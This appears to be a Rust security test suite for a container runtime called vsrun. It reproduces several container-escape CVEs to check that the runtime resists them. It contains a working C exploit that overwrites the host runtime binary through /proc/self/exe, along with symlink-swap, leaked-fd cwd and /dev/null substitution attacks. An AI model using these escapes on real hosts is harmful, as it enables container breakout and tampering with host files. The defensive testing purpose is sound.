/// view (its data segment then a writable mapping of the file), and the container must run.
#[test]
fn seal_falls_back_to_the_re_exec_when_a_step_of_the_move_fails() {
    if reference_mode() {
        return;
    }
    let rt = Runtime::new();
    for inject in [
        "prctl:error=EINVAL:when=1",
        "prctl:error=EPERM:when=2",
        "mremap:error=ENOMEM:when=1",
    ] {
        let mut strace = Command::new("strace");
        strace.args([
            "-qq",
            "-o",
            "/dev/null",
            "-e",
            "trace=prctl,mremap,execveat",
        ]);
        strace.args(["-e", &format!("inject={inject}")]);
        let (_bundle, id, out) = create_launched_by(strace, &rt, "seal-fail");
        assert!(
            out.status.success(),
            "create with {inject} failed: {}",
            output_text(&out)
        );
        rt.watch.after_create(&id, &rt.state_dir(&id));
        let (ro, perms) = vsrun_image_of(init_pid(&rt, &id));
        rt.start(&id);
        let running = rt.status(&id);
        finish(&rt, &id);
        assert!(
            ro,
            "{inject}: the init's exe link is on a writable mount: {perms:?}"
        );
        assert!(
            perms.iter().any(|p| p.contains('w')),
            "{inject}: no writable file mapping, so no re-exec after the failed move: {perms:?}"
        );
        assert_eq!(running.as_deref(), Some("running"), "{inject}: after start");
    }
}

/// `create` of a `sleep 30` bundle, with vsrun started by `launcher` (ld.so, strace, ...)
/// given vsrun's path and the create's arguments; the bundle must live until the container is
/// gone. Its output goes to files, not pipes: the
/// init keeps create's stdout and stderr open while it waits.
fn create_launched_by(
    mut launcher: Command,
    rt: &Runtime,
    id_prefix: &str,
) -> (Bundle, String, Output) {
    let mut b = Bundle::new();
    b.set_args(&["sleep", "30"]);
    b.write_if_changed();
    let id = unique_id(id_prefix);
    rt.remember_bundle(&id, b.path());
    rt.watch.before_create(&id, b.path());
    let io = tempfile::tempdir().expect("tempdir");
    let (o, e) = (io.path().join("out"), io.path().join("err"));
    let status = launcher
        .arg(vsrun_bin())
        .args([
            "--root",
            rt.root_str(),
            "create",
            "--bundle",
            b.path_str(),
            &id,
        ])
        .stdin(Stdio::null())
        .stdout(fs::File::create(&o).expect("stdout file"))
        .stderr(fs::File::create(&e).expect("stderr file"))
        .status()
        .expect("start the launcher of vsrun");
    let out = Output {
        status,
        stdout: fs::read(&o).unwrap_or_default(),
        stderr: fs::read(&e).unwrap_or_default(),
    };
    (b, id, out)
}

/// PT_INTERP of the ELF file at `path` (64-bit little-endian, vsrun's target).
fn elf_interpreter(path: &Path) -> Option<String> {
    let elf = fs::read(path).ok()?;
    let u16_at = |o: usize| Some(u16::from_le_bytes(elf.get(o..o + 2)?.try_into().ok()?));
    let u64_at = |o: usize| Some(u64::from_le_bytes(elf.get(o..o + 8)?.try_into().ok()?) as usize);
    let (phoff, phentsize, phnum) = (u64_at(0x20)?, u16_at(0x36)? as usize, u16_at(0x38)?);
    (0..phnum as usize)
        .map(|i| phoff + i * phentsize)
        .find(|&ph| elf.get(ph..ph + 4) == Some(&3u32.to_le_bytes()[..]))
        .and_then(|ph| {
            let (off, len) = (u64_at(ph + 8)?, u64_at(ph + 0x20)?);
            let name = elf.get(off..off + len)?;
            Some(
                String::from_utf8_lossy(name)
                    .trim_end_matches('\0')
                    .to_string(),
            )
        })
}

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736 as published: the container's program is `#!/proc/self/exe`

/// The container's init: watches /proc for a process whose exe is the target binary (the
/// runtime's own, run inside the container by the kernel because the program it exec'd starts
/// with `#!/proc/self/exe`). It holds that exe open, kills the process so the binary is no
/// longer busy, and keeps reopening the held file for writing until MS ends. Prints counters.
/// argv: MS TARGET_DEV TARGET_INO.
const EXE_GRABBER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: grabber MS DEV INO\n"); return 2; }
    long end = now_ms() + atol(argv[1]);
    dev_t tdev = (dev_t)strtoull(argv[2], 0, 10);
    ino_t tino = (ino_t)strtoull(argv[3], 0, 10);
    pid_t me = getpid();
    long hits = 0, write_ok = 0, erofs = 0, etxtbsy = 0, other = 0, scans = 0;
    int held[256];
    int nheld = 0;
    while (now_ms() < end) {
        while (waitpid(-1, 0, WNOHANG | __WALL) > 0) {}
        scans++;
        DIR *d = opendir("/proc");
        if (d) {
            struct dirent *e;
            while ((e = readdir(d))) {
                pid_t pid = atoi(e->d_name);
                if (pid <= 1 || pid == me) continue;
                char p[64];
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                int fd = open(p, O_RDONLY | O_CLOEXEC);
                if (fd < 0) continue;
                struct stat st;
                if (fstat(fd, &st) == 0 && st.st_dev == tdev && st.st_ino == tino && nheld < 256) {
                    hits++;
                    held[nheld++] = fd;
                    kill(pid, SIGKILL);
                } else {
                    close(fd);
                }
            }
            closedir(d);
        }
        for (int i = 0; i < nheld; i++) {
            char q[64];
            snprintf(q, sizeof q, "/proc/self/fd/%d", held[i]);
            int w = open(q, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "PWNED", 5, 0) == 5) write_ok++;
                close(w);
            } else if (errno == EROFS) {
                erofs++;
            } else if (errno == ETXTBSY) {
                etxtbsy++;
            } else {
                other++;
            }
        }
        usleep(500);
    }
    printf("{\"scans\":%ld,\"hits\":%ld,\"write_ok\":%ld,\"erofs\":%ld,\"etxtbsy\":%ld,\"other\":%ld}\n",
           scans, hits, write_ok, erofs, etxtbsy, other);
    fflush(stdout);
    return 0;
}
"#;

/// Copy `bin`'s ELF interpreter and shared libraries into the rootfs at their host paths, as
/// any glibc-based image has them: the kernel loads the container's copies when it runs the
/// binary inside the container.
fn install_libraries_of(b: &Bundle, bin: &Path) {
    let o = Command::new("ldd").arg(bin).output().expect("run ldd");
    for lib in String::from_utf8_lossy(&o.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let dst = b.rootfs().join(lib.trim_start_matches('/'));
        fs::create_dir_all(dst.parent().expect("library dir")).expect("mkdir library dir");
        fs::copy(lib, &dst).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
    }
}

/// A bundle whose init is EXE_GRABBER aimed at `target`, with /evil (`#!/proc/self/exe`) and
/// the libraries of every binary in `libs_of`.
fn grabber_bundle(target: &Path, ms: u64, libs_of: &[&Path]) -> Bundle {
    let mut a = Bundle::new();
    install(&a, "grabber", EXE_GRABBER);
    for bin in libs_of {
        install_libraries_of(&a, bin);
    }
    let evil = a.rootfs().join("evil");
    fs::write(&evil, "#!/proc/self/exe\n").expect("write /evil");
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).expect("chmod /evil");
    let md = fs::metadata(target).expect("stat target");
    a.set_args(&[
        "/grabber",
        &ms.to_string(),
        &md.dev().to_string(),
        &md.ino().to_string(),
    ]);
    a.write();
    a
}

/// A naive runtime, as runc was before its fix: joins the container's pid and mount
/// namespaces, drops every capability and execs PROG inside, from an unsealed binary. Run with
/// bad arguments (as the kernel does when PROG is `#!/proc/self/exe`) it lingers a moment
/// before failing, as a runtime parsing its command line would. argv: PID PROG.
const NAIVE_JOINER: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int pid = argc == 3 ? atoi(argv[1]) : 0;
    if (pid <= 0) { usleep(300000); fprintf(stderr, "usage: joiner PID PROG\n"); return 2; }
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/ns/pid", pid);
    int pidns = open(p, O_RDONLY | O_CLOEXEC);
    snprintf(p, sizeof p, "/proc/%d/ns/mnt", pid);
    int mntns = open(p, O_RDONLY | O_CLOEXEC);
    if (pidns < 0 || mntns < 0 || setns(pidns, CLONE_NEWPID) < 0) { perror("setns pid"); return 1; }
    pid_t c = fork();
    if (c == 0) {
        if (setns(mntns, CLONE_NEWNS) < 0 || chdir("/") < 0) { perror("setns mnt"); _exit(1); }
        for (int cap = 0; cap <= 63; cap++) prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
        struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
        struct __user_cap_data_struct d[2] = { { 0, 0, 0 }, { 0, 0, 0 } };
        if (syscall(SYS_capset, &h, d) < 0) { perror("capset"); _exit(1); }
        execl(argv[2], argv[2], (char *)0);
        perror("exec");
        _exit(1);
    }
    int st = 0;
    waitpid(c, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}
"#;

/// The unprotected path: NAIVE_JOINER, a host binary that joins the container and execs
/// /evil with the container's privileges. The grabber must rewrite it, or the tests that
/// follow could not fail.
#[test]
fn the_proc_self_exe_attack_works_against_an_unsealed_joiner() {
    let _race = race_lock();
    let tmp = tempdir("vsrun-esc-5736-demo-");
    let decoy = tmp.path().join("naive-joiner");
    fs::copy(helper("naive-joiner", NAIVE_JOINER), &decoy).expect("copy the naive joiner");
    fs::set_permissions(&decoy, fs::Permissions::from_mode(0o755)).expect("chmod decoy");
    let original = fs::read(&decoy).expect("read decoy");
    let rt = Runtime::new();
    let a = grabber_bundle(&decoy, 3000, &[]);
    let id = unique_id("demo-5736");
    assert_success(&rt.run_detached(&a, &id), "run -d of the grabber");
    let init = init_pid(&rt, &id);
    for _ in 0..5 {
        // Once the grabber has rewritten it, the decoy no longer runs (ENOEXEC).
        match Command::new(&decoy)
            .args([&init.to_string(), "/evil"])
            .stdin(Stdio::null())
            .output()
        {
            Ok(o) => eprintln!("decoy: {}", output_text(&o).trim()),
            Err(e) => eprintln!("decoy: {e}"),
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = wait_detached_output(&rt, &id);
    let _ = rt.delete_force(&id);
    let g: Value = serde_json::from_str(&out).expect("grabber JSON");
    eprintln!("demo grabber: {g}");
    assert!(
        count(&g, "hits") > 0 && count(&g, "write_ok") > 0 && fs::read(&decoy).unwrap() != original,
        "the grabber could not rewrite an unsealed joiner's binary: the vsrun tests prove nothing\n{g}"
    );
}

fn wait_detached_output(rt: &Runtime, id: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (out, _) = rt.container_output(id);
        if let Some(line) = out.lines().find(|l| l.starts_with('{')) {
            return line.to_string();
        }
        assert!(
            Instant::now() < deadline,
            "{id}: the grabber printed nothing: {out:?}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// vsrun joins the grabber's container again and again (exec, or create of a container in its
/// pid namespace) with /evil as the program: the kernel runs vsrun's binary in the container,
/// the grabber gets hold of it, and must never be able to write it.
fn proc_self_exe_race(joiner: Joiner) {
    let _race = race_lock();
    let tmp = tempdir("vsrun-esc-5736-");
    let bin = tmp.path().join("vsrun");
    fs::copy(vsrun_bin(), &bin).expect("copy vsrun");
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).expect("chmod vsrun copy");
    let original = fs::read(&bin).expect("read vsrun copy");
    let rt = Runtime::new();
    let ms = 5000;
    let a = grabber_bundle(&bin, ms, &[&bin]);
    let id = unique_id("victim-5736");
    rt.remember_bundle(&id, a.path());
    let out = tmp.path().join("grabber.out");
    let o = run_copy(
        &bin,
        &rt,
        &["run", "-d", "--bundle", a.path_str(), &id],
        Some(&out),
    );
    assert_success(&o, "run -d of the grabber");
    let init = init_pid(&rt, &id);
    let joiner_bundle = (joiner == Joiner::CreateInSharedPidNs).then(|| {
        let mut b = Bundle::new();
        install_libraries_of(&b, &bin);
        fs::write(b.rootfs().join("evil"), "#!/proc/self/exe\n").expect("write /evil");
        fs::set_permissions(b.rootfs().join("evil"), fs::Permissions::from_mode(0o755))
            .expect("chmod /evil");
        b.set_namespace("pid", Some(&format!("/proc/{init}/ns/pid")));
        b.set_args(&["/evil"]);
        b.write();
        b
    });
    let started = Instant::now();
    let mut joins = 0;
    let mut ran_inside = 0;
    while started.elapsed() < Duration::from_millis(ms - 1500) && joins < 40 {
        joins += 1;
        let o = match &joiner_bundle {
            None => run_copy(&bin, &rt, &["exec", &id, "/evil"], None),
            Some(b) => {
                let jid = unique_id("joiner-5736");
                rt.remember_bundle(&jid, b.path());
                let o = run_copy(&bin, &rt, &["create", "--bundle", b.path_str(), &jid], None);
                let _ = run_copy(&bin, &rt, &["start", &jid], None);
                std::thread::sleep(Duration::from_millis(30));
                let _ = rt.delete_force(&jid);
                o
            }
        };
        // Proof that the kernel really ran vsrun's binary inside the container: its own
        // usage error, or the grabber's SIGKILL (exit 137), comes back from `exec`.
        if stderr_str(&o).contains("unrecognized subcommand") || o.status.code() == Some(137) {
            ran_inside += 1;
        }
    }
    let g = wait_json_line(&out, Duration::from_millis(ms + 20_000), "grabber");
    let _ = rt.delete_force(&id);
    eprintln!("grabber: {g}; joins {joins}, vsrun ran inside {ran_inside}");
    assert_eq!(
        fs::read(&bin).expect("read vsrun copy"),
        original,
        "the container rewrote vsrun's binary on the host\n{g}"
    );
    assert_eq!(
        count(&g, "write_ok"),
        0,
        "the container wrote vsrun's binary\n{g}"
    );
    if joiner == Joiner::Exec {
        assert!(
            ran_inside > 0,
            "vsrun's binary never ran inside the container: the attack was not exercised"
        );
    }
    assert!(
        count(&g, "hits") > 0 && count(&g, "erofs") > 0,
        "the grabber never held vsrun's binary, or was not refused with EROFS (race not exercised)\n{g}"
    );
}

#[test]
fn runtime_binary_stays_intact_when_exec_runs_proc_self_exe() {
    proc_self_exe_race(Joiner::Exec);
}

#[test]
fn runtime_binary_stays_intact_when_a_joining_init_runs_proc_self_exe() {
    proc_self_exe_race(Joiner::CreateInSharedPidNs);
}

// ---------------------------------------------------------------------------------------------
// CVE-2021-30465: a mount destination swapped for a symlink

// The unprotected path: a path-based bind through the volume follows the symlink to the
// host's directory.
fn demonstrate_path_bind_through_symlink(tmp: &Path, volume: &Path, source: &Path, canary: &Path) {
    let demo_root = tmp.join("demo-rootfs");
    fs::create_dir_all(demo_root.join("vol")).expect("demo rootfs");
    let o = unprotected(
        &format!(
            "mount --bind {vol} {root}/vol && mount --bind {src} {root}/vol/l && ls {canary}",
            vol = sh_quote(volume),
            root = sh_quote(&demo_root),
            src = sh_quote(source),
            canary = sh_quote(canary),
        ),
        false,
    );
    assert!(
        stdout_str(&o).contains("from-source"),
        "demonstration: a path-based bind through the symlink did not reach the host dir\n{}",
        output_text(&o)
    );
    assert!(entries(canary).is_empty() && host_mounts_at(canary).is_empty());
}

/// One create of B while A swaps: Ok(whether the bind landed on the directory, else through
/// the symlink, inside the rootfs either way), Err(the refusal line).
fn create_racing_the_swapper(
    rt: &Runtime,
    b: &Bundle,
    src_name: &str,
    source: &Path,
    canary: &Path,
) -> Result<bool, String> {
    let id = unique_id("mounter");
    let o = rt.create(b, &id);
    if !o.status.success() {
        assert_refused(&o, "mounts[", "create racing the swapper");
        assert!(!rt.state_dir(&id).exists());
        return Err(stderr_str(&o).trim().to_string());
    }
    let pid = init_pid(rt, &id);
    let binds: Vec<HostMount> = mounts_of(pid)
        .into_iter()
        .filter(|m| m.root.ends_with(src_name))
        .collect();
    assert_eq!(
        binds.len(),
        1,
        "the bind of the source must be inside the container's mount tree exactly once \
         (a mount that landed outside the rootfs vanishes with the old root): {binds:?}"
    );
    assert!(
        entries(canary).is_empty(),
        "the host canary dir got entries: {:?}",
        entries(canary)
    );
    assert!(
        host_mounts_at(canary).is_empty() && host_mounts_at(source).is_empty(),
        "a host mount appeared on the canary or the source"
    );
    assert_success(&rt.delete_force(&id), "delete --force");
    assert_nothing_left(rt, &id);
    Ok(binds[0].mount_point == "/vol/x")
}

#[test]
fn mount_destination_swapped_for_a_symlink_lands_inside_the_rootfs() {
    let _race = race_lock();
    let tmp = tempdir("vsrun-esc-30465-");
    let volume = tmp.path().join("volume");
    let source = tmp.path().join(format!("vsrun-src-{}", std::process::id()));
    let canary = tmp.path().join("host-canary");
    for d in [&volume, &source, &canary] {
        fs::create_dir(d).expect("mkdir");
    }
    fs::write(source.join("from-source"), "source\n").expect("marker");
    fs::create_dir(volume.join("x")).expect("volume/x");
    // Enough ".." to reach "/" from wherever the volume is mounted, then the host canary.
    let climb = format!(
        "{}{}",
        "../".repeat(24),
        canary.to_str().expect("utf-8").trim_start_matches('/')
    );
    std::os::unix::fs::symlink(&climb, volume.join("l")).expect("volume/l symlink");

    demonstrate_path_bind_through_symlink(tmp.path(), &volume, &source, &canary);

    // Container A flips volume/x between the directory and the symlink as fast as it can.
    let rt = Runtime::new();
    let mut a = Bundle::new();
    install(&a, "swapper", SWAPPER);
    a.set_args(&["/swapper", "/vol/x", "/vol/l", "60000"]);
    let vol_mount = json!({ "destination": "/vol", "type": "bind",
        "source": volume.to_str().unwrap(), "options": ["rbind", "rw"] });
    add_mount(&mut a, vol_mount.clone());
    let aid = unique_id("swapper");
    assert_success(&rt.run_detached(&a, &aid), "run -d of the swapper");

    // Container B, sharing the volume, mounts the source onto /vol/x, again and again.
    let mut b = Bundle::new();
    add_mount(&mut b, vol_mount);
    add_mount(
        &mut b,
        json!({ "destination": "/vol/x", "type": "bind",
            "source": source.to_str().unwrap(), "options": ["bind", "ro"] }),
    );
    b.set_args(&["/bin/true"]);
    let src_name = format!("/{}", source.file_name().unwrap().to_string_lossy());
    let (mut on_dir, mut via_symlink, mut failed) = (0, 0, Vec::new());
    for _ in 0..30 {
        match create_racing_the_swapper(&rt, &b, &src_name, &source, &canary) {
            Ok(true) => on_dir += 1,
            Ok(false) => via_symlink += 1,
            Err(refused) => failed.push(refused),
        }
    }
    let _ = rt.delete_force(&aid);
    eprintln!(
        "CVE-2021-30465 race: bind landed on the directory {on_dir}x, through the symlink \
         (inside the rootfs) {via_symlink}x, refused {}x {:?}",
        failed.len(),
        failed.iter().take(3).collect::<Vec<_>>()
    );
    assert!(on_dir + via_symlink > 0, "no create succeeded: {failed:?}");
    assert!(entries(&canary).is_empty());
}

// ---------------------------------------------------------------------------------------------
// CVE-2024-21626: process.cwd through /proc/self/fd, leaked fds

/// Leaked host directory fds 3..=20; process.cwd names one of them through /proc/self/fd.
#[test]
fn cwd_through_proc_self_fd_is_refused() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-leak-");
    fs::write(host.path().join("host-file"), "host\n").expect("host file");
    let before = entries(host.path());
    let dir = open_dir(host.path());
    // The unprotected path: a plain chdir through /proc/self/fd/7 by a process holding the
    // leaked fd lands in the host directory.
    let mut c = Command::new("sh");
    c.args(["-c", "cd /proc/self/fd/7 && ls"])
        .stdin(Stdio::null());
    leak_dir_fds(&mut c, dir.as_raw_fd(), 7..=7);
    let o = c.output().expect("sh");
    assert!(
        stdout_str(&o).contains("host-file"),
        "demonstration: chdir through the leaked fd did not reach the host dir\n{}",
        output_text(&o)
    );
    let mut b = Bundle::new();
    std::os::unix::fs::symlink("/proc/self/fd/7", b.rootfs().join("fdlink")).expect("symlink");
    b.set_args(&["/probe"]);
    let mut cwds: Vec<String> = (3..=20).map(|n| format!("/proc/self/fd/{n}")).collect();
    cwds.extend([
        "/proc/self/fd/7/".to_string(),
        "/proc/self/fd/7/..".to_string(),
        "/proc/thread-self/fd/7".to_string(),
        "/proc/1/fd/7".to_string(),
        "/fdlink".to_string(),
        "/fdlink/sub".to_string(),
    ]);
    for cwd in &cwds {
        b.config["process"]["cwd"] = json!(cwd);
        b.write();
        let id = unique_id("cwd");
        let o = rt.cmd_with(&["run", "--bundle", b.path_str(), &id], |c| {
            leak_dir_fds(c, dir.as_raw_fd(), 3..=20)
        });
        assert_refused(&o, "process.cwd", &format!("process.cwd {cwd:?}"));
        assert_nothing_left(&rt, &id);
    }
    assert_eq!(entries(host.path()), before, "the leaked host dir changed");
}

/// A missing directory before `..` gets the resolver past its first look; whatever vsrun
/// creates for a missing cwd must still be created inside the container.
#[test]
fn missing_cwd_is_created_inside_the_container_not_through_proc_self_fd() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-leak-");
    let before = entries(host.path());
    let dir = open_dir(host.path());
    let mut b = Bundle::new();
    b.set_args(&["/probe"]);
    for n in [3, 7, 20] {
        let cwd = format!("/missing-{n}/../proc/self/fd/{n}/escaped-{n}");
        b.config["process"]["cwd"] = json!(cwd);
        b.write();
        let id = unique_id("cwd");
        let o = rt.cmd_with(&["run", "--bundle", b.path_str(), &id], |c| {
            leak_dir_fds(c, dir.as_raw_fd(), 3..=20)
        });
        let created = entries(host.path());
        assert_eq!(
            created,
            before,
            "process.cwd {cwd:?} made vsrun create a directory in the leaked host dir \
             (create_dir_all follows /proc/self/fd/{n})\n{}",
            output_text(&o)
        );
        if o.status.success() {
            let seen: Value = serde_json::from_slice(&o.stdout).expect("probe JSON");
            assert!(
                !seen["cwd"].as_str().unwrap_or("").contains("unreachable"),
                "the container's cwd is outside its root: {seen}"
            );
        } else {
            assert_refused(&o, "process.cwd", &format!("process.cwd {cwd:?}"));
        }
        assert_nothing_left(&rt, &id);
    }
}

#[test]
fn only_stdio_and_preserved_fds_cross_exec() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-leak-");
    let dir = open_dir(host.path());
    let mut b = Bundle::new();
    b.set_args(&["/probe"]);
    b.write();
    let id = unique_id("fds");
    let o = rt.cmd_with(&["run", "--bundle", b.path_str(), &id], |c| {
        leak_dir_fds(c, dir.as_raw_fd(), 3..=20)
    });
    assert_success(&o, "run with leaked fds 3..=20");
    let seen: Value = serde_json::from_slice(&o.stdout).expect("probe JSON");
    assert_eq!(
        fd_numbers(&seen),
        vec![0, 1, 2],
        "fds in the container: {}",
        seen["fds"]
    );

    let id = unique_id("fds");
    let o = rt.cmd_with(
        &["run", "--preserve-fds", "2", "--bundle", b.path_str(), &id],
        |c| leak_dir_fds(c, dir.as_raw_fd(), 3..=20),
    );
    assert_success(&o, "run --preserve-fds 2 with leaked fds 3..=20");
    let seen: Value = serde_json::from_slice(&o.stdout).expect("probe JSON");
    assert_eq!(
        fd_numbers(&seen),
        vec![0, 1, 2, 3, 4],
        "fds with --preserve-fds 2: {}",
        seen["fds"]
    );
}

/// `exec --cwd` goes through the same steps as process.cwd, in a running container. Every
/// check is made (a fresh container replaces one that died) and the problems are reported
/// together.
#[test]
fn exec_cwd_through_proc_self_fd_is_refused_and_leaks_nothing() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-leak-");
    let before = entries(host.path());
    let dir = open_dir(host.path());
    let mut b = Bundle::new();
    let mut d = rt.probe_detached(&mut b);
    let mut problems: Vec<String> = Vec::new();
    let fd = dir.as_raw_fd();
    let exec = |d: &mut Detached, b: &mut Bundle, problems: &mut Vec<String>, args: &[&str]| {
        let mut full = vec!["exec"];
        full.extend_from_slice(&args[..args.len() - 1]);
        full.push(&d.id);
        full.push(args[args.len() - 1]);
        let o = rt.cmd_with(&full, |c| leak_dir_fds(c, fd, 3..=20));
        if rt.status(&d.id).as_deref() != Some("running") {
            problems.push(format!(
                "{args:?}: the container stopped after this exec (status {:?}; exec: {})",
                rt.status(&d.id),
                stderr_str(&o).trim()
            ));
            let _ = rt.delete_force(&d.id);
            *d = rt.probe_detached(b);
        }
        o
    };
    for n in 3..=20 {
        let cwd = format!("/proc/self/fd/{n}");
        let o = exec(&mut d, &mut b, &mut problems, &["--cwd", &cwd, "/probe"]);
        let lines = stderr_str(&o).lines().count();
        let refused = if reference_mode() {
            !o.status.success()
        } else {
            o.status.code() == Some(255) && lines == 1 && stderr_str(&o).contains("cwd")
        };
        if !refused {
            problems.push(format!(
                "exec --cwd {cwd}: not refused\n{}",
                output_text(&o)
            ));
        }
    }
    for n in [3, 7, 20] {
        let cwd = format!("/missing-{n}/../proc/self/fd/{n}/escaped-exec-{n}");
        let o = exec(&mut d, &mut b, &mut problems, &["--cwd", &cwd, "/probe"]);
        if entries(host.path()) != before {
            problems.push(format!(
                "exec --cwd {cwd:?} created {:?} in the leaked host dir ({})",
                entries(host.path()),
                stderr_str(&o).trim()
            ));
            for e in entries(host.path()).difference(&before) {
                let _ = fs::remove_dir(host.path().join(e));
            }
        }
    }
    let o = exec(&mut d, &mut b, &mut problems, &["/probe"]);
    assert_success(&o, "exec with leaked fds");
    let seen: Value = serde_json::from_slice(&o.stdout).expect("probe JSON");
    if fd_numbers(&seen) != vec![0, 1, 2] {
        problems.push(format!("fds in the exec'd process: {}", seen["fds"]));
    }
    assert_success(&rt.delete_force(&d.id), "delete --force");
    assert_nothing_left(&rt, &d.id);
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-31133: the image's /dev/null is not /dev/null

/// The image's /dev is used as it is (no tmpfs on /dev), so its /dev/null is what a runtime
/// that masks with "the container's /dev/null" would bind.
fn image_dev_bundle() -> Bundle {
    let mut b = Bundle::new();
    remove_mount(&mut b, "/dev");
    b
}

/// The unprotected path: binding "<rootfs>/dev/null" by path follows the image's symlink.
fn demonstrate_path_bind_of_dev_null(host: &Path, secret: &Path) {
    let b = image_dev_bundle();
    std::os::unix::fs::symlink(secret, b.rootfs().join("dev/null")).expect("symlink");
    let target = host.join("masked-target");
    fs::write(&target, "").expect("target");
    let o = unprotected(
        &format!(
            "mount --bind {null} {t} && cat {t}",
            null = sh_quote(&b.rootfs().join("dev/null")),
            t = sh_quote(&target)
        ),
        false,
    );
    assert!(
        stdout_str(&o).contains("host-secret"),
        "demonstration: a path-based bind of the image's /dev/null did not expose the host file\n{}",
        output_text(&o)
    );
}

/// The image's /dev/null planted by `plant`: every masked path is still char 1:3 and empty,
/// and the host file is neither changed nor mounted.
fn masks_with_planted_dev_null(rt: &Runtime, what: &str, plant: &dyn Fn(&Path), secret: &Path) {
    let mut b = image_dev_bundle();
    plant(&b.rootfs());
    fs::write(b.rootfs().join("etc/masked-file"), "image-data\n").expect("masked file");
    b.config["linux"]["maskedPaths"]
        .as_array_mut()
        .expect("maskedPaths")
        .push(json!("/etc/masked-file"));
    let lines = rt.probe_lines(
        &mut b,
        &[
            "stat",
            "/proc/keys",
            "--",
            "read",
            "/proc/keys",
            "--",
            "stat",
            "/proc/timer_list",
            "--",
            "read",
            "/proc/timer_list",
            "--",
            "stat",
            "/etc/masked-file",
            "--",
            "read",
            "/etc/masked-file",
            "--",
            "write",
            "/proc/timer_list",
            "pwned",
        ],
    );
    for (i, path) in ["/proc/keys", "/proc/timer_list", "/etc/masked-file"]
        .iter()
        .enumerate()
    {
        let st = &lines[2 * i];
        let rd = &lines[2 * i + 1];
        assert!(
            st["type"] == "char" && st["rdev_major"] == 1 && st["rdev_minor"] == 3,
            "/dev/null as {what}: masked {path} is not char 1:3: {st}"
        );
        assert!(
            rd["ok"] == true && rd["len"] == 0,
            "/dev/null as {what}: masked {path} is not empty: {rd}"
        );
    }
    assert_eq!(
        fs::read_to_string(secret).unwrap(),
        "host-secret\n",
        "/dev/null as {what}: the host file changed"
    );
    assert!(
        host_mounts_at(secret).is_empty(),
        "/dev/null as {what}: the host file is mounted on the host"
    );
}

#[test]
fn masking_binds_only_a_verified_dev_null() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-31133-");
    let secret = host.path().join("host-secret");
    fs::write(&secret, "host-secret\n").expect("host secret");
    let core_pattern_before = fs::read_to_string("/proc/sys/kernel/core_pattern").ok();

    demonstrate_path_bind_of_dev_null(host.path(), &secret);

    let secret_s = secret.to_str().expect("utf-8").to_string();
    let relative = format!("{}{}", "../".repeat(24), secret_s.trim_start_matches('/'));
    let variants: Vec<(&str, Box<dyn Fn(&Path)>)> = vec![
        (
            "symlink to a host file",
            Box::new(move |r: &Path| {
                std::os::unix::fs::symlink(&secret_s, r.join("dev/null")).unwrap()
            }),
        ),
        (
            "relative symlink climbing to a host file",
            Box::new(move |r: &Path| {
                std::os::unix::fs::symlink(&relative, r.join("dev/null")).unwrap()
            }),
        ),
        (
            "symlink to core_pattern",
            Box::new(|r: &Path| {
                std::os::unix::fs::symlink("/proc/sys/kernel/core_pattern", r.join("dev/null"))
                    .unwrap()
            }),
        ),
        (
            "regular file",
            Box::new(|r: &Path| fs::write(r.join("dev/null"), "image-secret\n").unwrap()),
        ),
    ];
    for (what, plant) in variants {
        masks_with_planted_dev_null(&rt, what, plant.as_ref(), &secret);
    }
    assert_eq!(
        fs::read_to_string("/proc/sys/kernel/core_pattern").ok(),
        core_pattern_before
    );
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-52565: /dev/console redirected

/// Receive one fd over a unix socket (SCM_RIGHTS), as conmon does with --console-socket.
use spec_tests::scm::recv_fd;

/// A --console-socket: the master arrives on a thread.
struct ConsoleSocket {
    path: PathBuf,
    rx: std::sync::mpsc::Receiver<Option<OwnedFd>>,
    _dir: tempfile::TempDir,
}

impl ConsoleSocket {
    fn new() -> Self {
        let dir = tempdir("vsrun-esc-console-");
        let path = dir.path().join("console.sock");
        let l = UnixListener::bind(&path).expect("bind console socket");
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let fd = l.accept().ok().and_then(|(s, _)| recv_fd(&s));
            let _ = tx.send(fd);
        });
        ConsoleSocket {
            path,
            rx,
            _dir: dir,
        }
    }

    fn master(&self) -> OwnedFd {
        self.rx
            .recv_timeout(Duration::from_secs(30))
            .expect("no connection on the console socket")
            .expect("no fd received on the console socket")
    }
}

#[test]
fn console_binds_only_the_verified_pty() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-52565-");
    let canary = host.path().join("host-console-canary");
    fs::write(&canary, "host-canary\n").expect("canary");

